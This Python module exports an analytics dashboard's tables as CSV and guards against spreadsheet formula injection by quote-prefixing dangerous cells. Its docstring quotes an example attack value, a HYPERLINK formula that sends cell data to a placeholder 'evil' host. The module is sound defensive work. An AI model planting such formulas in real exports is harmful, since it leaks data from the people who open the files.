"""CSV exports of the dashboard's tables.

Values come from tracked sites, so anyone can plant a page named
`=HYPERLINK("http://evil/?"&A1)`. Spreadsheets run cells that start with
=, +, - or @, and some skip leading whitespace first (spaces, tabs, line
breaks, Unicode spaces) or invisible format characters (a zero-width space,
a byte order mark) that can hide such a start. So a text cell is prefixed
with a single quote, the usual defence (OWASP "CSV injection"), when its
first character that is neither is one of those four; a cell starting with a
tab or carriage return always is. Numbers are ours and stay numbers.
"""

import csv
import io
import unicodedata
from collections.abc import Iterable, Iterator, Sequence

from reports.labels import dimension_label
from reports.panels import Table
from reports.stats import BreakdownRow, StatsQuery, breakdown

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_STARTS = ("=", "+", "-", "@")
PAGE_SIZE = 1000
# An export holds at most this many rows; larger tables are long tails of ones.
MAX_ROWS = 100_000
UNITS = {"count": "", "percent": " (%)", "duration": " (s)", "money": ""}


def neutralise(cell: object) -> object:
    """A text cell a spreadsheet will show, never run; other values unchanged."""
    if not isinstance(cell, str):
        return cell
    if cell.startswith(DANGEROUS_STARTS) or _visible(cell).startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def _visible(text: str) -> str:
    """`text` from its first character that is not whitespace, a control or a format character."""
    for i, char in enumerate(text):
        if not (char.isspace() or unicodedata.category(char) in ("Cc", "Cf")):
            return text[i:]
    return ""


def all_rows(
    q: StatsQuery, table: Table, *, search: str = "", labelled: Sequence[str] = ()
) -> Iterator[BreakdownRow]:
    """Every row of a table, read a page at a time."""
    offset = 0
    while offset < MAX_ROWS:
        rows = breakdown(
            q,
            table.dimension,
            limit=PAGE_SIZE,
            offset=offset,
            search=search,
            labelled=labelled,
            order_by=table.order_by,
        )
        yield from rows
        if len(rows) < PAGE_SIZE:
            return
        offset += PAGE_SIZE


def table_records(
    table: Table,
    rows: Iterable[BreakdownRow],
    *,
    range_visitors: int,
    bases: dict[str, int] | None = None,
) -> Iterator[list[object]]:
    """The header, then a record per row: the raw value and every column's raw number.

    Rates divide by `range_visitors`, or by each row's base if given (reports/goals.py).
    """
    yield [dimension_label(table.dimension), *(c.label + UNITS[c.kind] for c in table.columns)]
    for row in rows:
        base = bases.get(row.value, 0) if bases is not None else range_visitors
        cells: list[object] = [row.value]
        for column in table.columns:
            cells.append(_raw(column.kind, column.get(row.totals, base)))
        yield cells


def _raw(kind: str, value: float | None) -> float | str:
    """Plain numbers a spreadsheet can sum: percentages as 12.5, money in units, not cents.

    A figure that does not exist (no page view reported a scroll depth) is an empty cell.
    """
    if value is None:
        return ""
    if kind == "percent":
        return round(value * 100, 2)
    if kind == "money":
        return round(value / 100, 2)
    if kind == "duration":
        return round(value, 1)
    return value


def to_csv(records: Iterable[list[object]]) -> str:
    """RFC 4180 text with every dangerous cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for record in records:
        writer.writerow([neutralise(cell) for cell in record])
    return out.getvalue()
